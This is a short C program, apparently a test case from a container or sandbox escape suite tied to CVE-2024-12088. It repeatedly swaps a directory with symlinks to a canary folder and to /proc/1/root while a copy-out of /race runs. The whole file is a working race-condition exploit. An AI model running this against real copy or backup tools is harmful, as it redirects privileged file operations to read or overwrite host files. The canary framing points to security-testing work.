/*
 * does: exchanges directories and links while the keeper reads the tree around them (CVE-2024-12088)
 * while: copy-out /race
 * time: 120
 */
int main(void) {
    char folder[PATH_MAX];
    snprintf(folder, sizeof folder, "%s", told("CANARY"));
    *strrchr(folder, '/') = 0;
    mkdir("/race", 0755), mkdir("/race/a", 0755), mkdir("/race/a/b", 0755), mkdir("/race/a/b/folder", 0755);
    symlink(folder, "/race/a/link");
    symlink("/proc/1/root", "/race/a/root");
    double end = seconds() + 3;
    while (seconds() < end) {
        syscall(SYS_renameat2, AT_FDCWD, "/race/a/b", AT_FDCWD, "/race/a/link", 2);
        syscall(SYS_renameat2, AT_FDCWD, "/race/a/b", AT_FDCWD, "/race/a/root", 2);
    }
    return 0;
}
